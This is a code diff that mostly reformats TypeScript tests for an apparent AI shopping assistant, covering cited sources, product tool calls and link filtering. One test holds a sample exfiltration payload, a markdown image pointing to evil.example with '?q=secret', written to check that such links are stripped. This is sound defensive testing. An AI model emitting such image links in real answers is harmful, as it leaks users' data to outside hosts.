@@ -39,7 +39,8 @@ function answersIn(events: TurnEvent[]): Message[] {
   return last.type === 'assistant.done' ? last.messages : [];
 }
 
-const saidIn = (events: TurnEvent[]) => events.map((event) => (event.type === 'assistant.delta' ? event.text : '')).join('');
+const saidIn = (events: TurnEvent[]) =>
+  events.map((event) => (event.type === 'assistant.delta' ? event.text : '')).join('');
 
 describe('an answer', () => {
   test('carries the sources it cites, and shows no mark of them', async () => {
@@ -48,13 +49,16 @@ describe('an answer', () => {
     const events = await ask('How long do I have to return something?');
     const [answer] = answersIn(events);
     expect(answer).toMatchObject({ body: 'You have 60 days.', role: 'assistant', author: { handle: 'assistant' } });
-    expect(answer!.sources).toMatchObject([{ title: 'Returns', excerpt: expect.stringContaining('60 days') as string }]);
+    expect(answer!.sources).toMatchObject([
+      { title: 'Returns', excerpt: expect.stringContaining('60 days') as string },
+    ]);
     expect(saidIn(events)).toBe('You have 60 days.');
   });
 
   test('never shows a link or image to a host that is neither a source’s nor the site’s', async () => {
     const { ask } = await aRoom();
-    const text = 'See [here](https://evil.example/x), ![p](https://evil.example/p?q=secret) and [ours](https://shop.example/r).';
+    const text =
+      'See [here](https://evil.example/x), ![p](https://evil.example/p?q=secret) and [ours](https://shop.example/r).';
     api.script({ text: [...text] });
     const events = await ask('Where?');
     const shown = 'See here,  and [ours](https://shop.example/r).';
@@ -98,7 +102,9 @@ describe('a tool', () => {
     api.script({ calls: [{ tool: 'show_products', input: { references: [1, 7] } }] }, { text: 'Have a look.' });
     const answers = answersIn(await ask('Tent Two'));
     expect(answers.map((each) => each.kind)).toEqual(['text', 'products']);
-    expect(answers[1]!.data).toMatchObject({ products: [{ title: 'Tent Two', url: '/products/tent-two', price: '2999' }] });
+    expect(answers[1]!.data).toMatchObject({
+      products: [{ title: 'Tent Two', url: '/products/tent-two', price: '2999' }],
+    });
   });
 
   test('registers a callback when there is a way to call, and says what is missing when not', async () => {
